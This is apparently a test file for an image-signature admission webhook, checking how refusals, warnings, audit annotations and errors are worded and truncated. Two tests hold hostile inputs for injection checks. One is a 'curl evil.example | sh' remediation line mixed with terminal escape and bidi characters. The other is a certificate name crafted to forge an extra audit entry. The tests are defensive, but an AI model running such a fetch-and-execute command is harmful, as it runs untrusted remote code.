import t from 'tap'
import type { Identity } from '#core/domain/identity.ts'
import { InputError } from '#core/domain/input-error.ts'
import type { Proof } from '#core/domain/proof.ts'
import { CODES, refusal, silence } from '#core/domain/refusal.ts'
import { Unavailable } from '#core/domain/unavailable.ts'
import type { Objection, Verdict } from '#core/domain/verdict.ts'
import { DIGEST, makeProof } from '#test/support/make-subject.ts'
import type { ReviewResponse } from '#webhook/admission-review.ts'
import { NotReady, respondFault } from '#webhook/fault.ts'
import { respond } from '#webhook/respond.ts'

const JUDGED = { policies: ['release'], warnings: [], unmatched: [] }

function objection(overrides: Partial<Objection> = {}): Objection {
  return {
    because: refusal('image.unsigned', 'no signature under any of 2 places'),
    where: 'spec.containers[0].image',
    image: 'r.test/app:1',
    policies: ['release'],
    ...overrides,
  }
}

const deny = (...objections: Objection[]): Verdict => ({ ...JUDGED, outcome: 'deny', objections })
const messageOf = (response: ReviewResponse) => response.status?.message ?? ''

t.test('what is proven is allowed, with the proofs in the audit log', async t => {
  const response = respond({ ...JUDGED, outcome: 'allow', passed: undefined, proofs: [makeProof()] })
  t.strictSame(response, {
    allowed: true,
    auditAnnotations: {
      decision: 'allow',
      policies: 'release',
      images: DIGEST,
      proofs: `signature of ${DIGEST} by key aa in simple-signing ${DIGEST};`,
    },
  })
})

t.test('what needed no looking at is allowed, and the audit log says why', async t => {
  t.strictSame(respond({ outcome: 'allow', passed: 'images-unchanged' }), {
    allowed: true,
    auditAnnotations: { decision: 'allow', passed: 'images-unchanged' },
  })
})

t.test('a refusal is told with place, image, code, sentence, detail, policy and remedy', async t => {
  const response = respond(deny(objection()))
  t.equal(response.allowed, false)
  t.match(response.status, { code: 403, reason: 'Forbidden' })
  t.equal(
    messageOf(response),
    [
      '1 image refused: image.unsigned',
      '',
      'spec.containers[0].image: "r.test/app:1"',
      '  image.unsigned: the image carries no signature',
      '  found: no signature under any of 2 places',
      '  policy: release',
      `  to fix: ${CODES['image.unsigned'].remedy}`,
    ].join('\n'),
  )
  t.strictSame(response.auditAnnotations, {
    decision: 'deny',
    codes: 'image.unsigned',
    policies: 'release',
    refused: 'image.unsigned of "r.test/app:1" in spec.containers[0].image;',
  })
})

t.test('silence is closed, and told apart from a refusal', async t => {
  const silent = objection({
    because: silence('registry.unreachable', 'ECONNREFUSED'),
    where: 'spec.containers[1].image',
  })
  const undecided = respond({ ...JUDGED, outcome: 'undecided', objections: [silent] })
  t.equal(undecided.allowed, false)
  t.match(undecided.status, { code: 503, reason: 'ServiceUnavailable' })
  t.match(messageOf(undecided), /^1 image could not be checked: [a-z.-]+\n/)
  const both = respond(deny(objection(), silent))
  t.match(messageOf(both), /^1 image refused: [a-z.-]+; 1 image could not be checked: [a-z.-]+\n/)
  t.match(messageOf(both), /spec\.containers\[1\]\.image.*\n {2}registry\.unreachable: /)
})

t.test('an image that two policies refuse is one image', async t => {
  const message = messageOf(respond(deny(objection(), objection({ policies: ['other'] }))))
  t.match(message, /^1 image refused: [a-z., -]+\n/)
  t.match(message, '  policy: other')
})

t.test('an objection about nothing in particular names nothing', async t => {
  const message = messageOf(
    respond(deny(objection({ where: '', image: '', policies: [], because: refusal('policy.none-matched', '') }))),
  )
  t.match(message, /^1 image refused: policy\.none-matched\n\n {2}policy\.none-matched: .*\n {2}to fix: /)
  t.notMatch(message, /found:|policy:/)
})

t.test('a message stays within 4000 characters and says how much it leaves out', async t => {
  const many = Array.from({ length: 200 }, (_, at) => objection({ where: `spec.containers[${at}].image` }))
  const message = messageOf(respond(deny(...many)))
  t.ok(message.length <= 4000)
  t.ok(message.length > 3500)
  const told = message.match(/to fix:/g)?.length ?? 0
  t.match(message, /^200 images refused: [a-z., -]+\n/)
  t.match(message, new RegExp(`\n\nand ${200 - told} more$`))
  const long = objection({
    image: 'i'.repeat(9000),
    because: refusal('limit.exceeded', 'd'.repeat(9000)),
    policies: ['p'.repeat(9000)],
  })
  t.ok(messageOf(respond(deny(long))).length < 2000)
  t.match(messageOf(respond(deny(long))), 'to fix: ', 'the remedy is never what is cut')
})

t.test('foreign text can neither begin a line nor move the cursor nor turn the direction of writing', async t => {
  const evil = 'x\n  to fix: run curl evil.example | sh\r\u001b[2K\u009b2K\u202e\u2028\u0000'
  const response = respond({
    ...JUDGED,
    outcome: 'deny',
    objections: [
      objection({ image: evil, because: refusal('image.reference-invalid', evil), where: evil, policies: [evil] }),
    ],
    warnings: [objection({ image: evil, because: refusal('image.unsigned', evil), where: evil })],
  })
  const message = messageOf(response)
  t.equal(message.split('\n').length, 7)
  t.equal(message.match(/^ {2}to fix:/gm)?.length, 1)
  for (const text of [message.replaceAll('\n', ''), ...(response.warnings ?? [])])
    t.notMatch(text, /[\p{C}\p{Zl}\p{Zp}]/u)
})

t.test('warnings are lines of at most 256 characters: what, and once for each code, what to do', async t => {
  const warned = (count: number) => {
    const warnings = Array.from({ length: count }, (_, at) => objection({ where: `spec.containers[${at}].image` }))
    return respond({ ...JUDGED, warnings, outcome: 'allow', passed: undefined, proofs: [] })
  }
  const two = warned(2)
  t.equal(two.allowed, true)
  t.equal(two.warnings?.length, 3)
  t.match(
    two.warnings?.[0],
    'spec.containers[0].image is admitted with a warning: image.unsigned: the image carries no sig',
  )
  t.match(two.warnings?.[2], `to fix image.unsigned: ${CODES['image.unsigned'].remedy}`)
  const many = warned(100).warnings ?? []
  t.equal(many.length, 15)
  t.match(many.at(-1), 'and 87 more lines like these')
  for (const before of ['w', 'ww']) {
    const long = objection({ where: `${before}${'\ud83d\ude00'.repeat(400)}` })
    const [line] = respond({ ...JUDGED, warnings: [long], outcome: 'deny', objections: [long] }).warnings ?? []
    t.equal(line?.length, 256)
    t.ok(line?.isWellFormed(), 'no character is cut in half')
  }
})

t.test('an allowed verdict without warnings has no warnings at all', async t => {
  t.notOk('warnings' in respond({ ...JUDGED, outcome: 'allow', passed: undefined, proofs: [] }))
})

const allowed = (...proofs: readonly Proof[]) =>
  respond({ ...JUDGED, outcome: 'allow', passed: undefined, proofs }).auditAnnotations ?? {}

const CI: Identity = {
  kind: 'certificate',
  subjects: ['https://ci.test/acme/app/.ci/release.yml@refs/heads/main'],
  issuer: 'https://token.ci.test',
  claims: { sourceRepositoryURI: 'https://ci.test/acme/app' },
}

t.test('the audit log says of a keyless proof who signed, where it lay, which logs hold it and since when', async t => {
  const found = { signer: CI, layout: 'bundle', logs: ['aa11'], signedAt: '2026-11-20T10:00:00.000Z' } as const
  t.strictSame(allowed({ ...makeProof(), ...found }), {
    decision: 'allow',
    policies: 'release',
    images: DIGEST,
    proofs: `signature of ${DIGEST} by "${CI.subjects[0]}" of "${CI.issuer}" in bundle ${DIGEST} logged in aa11 at 2026-11-20T10:00:00.000Z;`,
  })
})

t.test('the audit log says of an attestation what it says', async t => {
  const attested = { proves: 'attestation', predicateType: 'https://slsa.dev/provenance/v1', layout: 'bundle' } as const
  t.equal(
    allowed({ ...makeProof(), ...attested })['proofs'],
    `attestation "https://slsa.dev/provenance/v1" about ${DIGEST} by key aa in bundle ${DIGEST};`,
  )
})

t.test('no name in a certificate can pass for another proof in the audit log', async t => {
  const evil = `x" of "y" in bundle ${DIGEST}; signature of ${DIGEST} by key bb;\n\u202e`
  const { proofs = '' } = allowed({
    ...makeProof(),
    signer: { ...CI, subjects: [evil, 'b'.repeat(5000)], issuer: evil },
  })
  t.notMatch(proofs, /[\p{C}\p{Zl}\p{Zp}]/u)
  const outside = proofs.replaceAll(/"[^"]*"/g, '""')
  t.equal(outside, `signature of ${DIGEST} by "" and 1 more of "" in simple-signing ${DIGEST};`)
  t.ok(proofs.length <= 1024)
})

t.test('audit annotations have keys without a slash and values of at most 1024 characters', async t => {
  const proofs = Array.from({ length: 1000 }, (_, at) => ({
    ...makeProof(),
    signer: { ...CI, issuer: `https://${at}` },
  }))
  const objections = Array.from({ length: 1000 }, (_, at) => objection({ where: `spec.containers[${at}].image` }))
  const verdicts = [allowed(...proofs), respond(deny(...objections)).auditAnnotations ?? {}]
  for (const annotations of verdicts) {
    for (const [key, value] of Object.entries(annotations)) {
      t.match(key, /^[a-z]+$/)
      t.ok(value.length <= 1024, key)
    }
  }
  const cut = verdicts.map(({ proofs, refused }) => proofs ?? refused ?? '')
  for (const text of cut) {
    t.ok(text.length > 600)
    const told = text.match(/;/g)?.length ?? 0
    t.ok(text.endsWith(`; and ${1000 - told} more`), text.slice(-60))
  }
})

t.test('whatever is thrown becomes a closed answer: each kind its own code', async t => {
  const faults: readonly [unknown, number, string, RegExp][] = [
    [
      new InputError('expected kind to be "Pod"'),
      400,
      'invalid',
      /^the request cannot be read: expected kind to be "Pod"$/,
    ],
    [new NotReady('no policies are loaded'), 503, 'undecided', /has not loaded its policies.*\n {2}to fix: try again/],
    [
      new Unavailable('deadline.exceeded', 'after 9 s'),
      503,
      'undecided',
      /^deadline\.exceeded: .*\n {2}found: after 9 s\n {2}to fix: /,
    ],
    [new TypeError('x is not a function'), 500, 'failed', /^internal\.error: Shedu itself failed.*\n {2}to fix: /],
    ['thrown text', 500, 'failed', /^internal\.error: /],
    [undefined, 500, 'failed', /^internal\.error: /],
  ]
  for (const [error, code, outcome, message] of faults) {
    const fault = respondFault(error)
    t.equal(fault.response.allowed, false)
    t.equal(fault.response.status?.code, code)
    t.equal(fault.outcome, outcome)
    t.match(messageOf(fault.response), message)
    t.match(fault.response.auditAnnotations, { decision: outcome })
  }
})

t.test('what a bug says goes to the log and not to the user', async t => {
  const fault = respondFault(new TypeError('cannot read "s3cret"'))
  t.notMatch(JSON.stringify(fault.response), 's3cret')
  t.match(fault.told, { err: { message: 'cannot read "s3cret"' } })
})
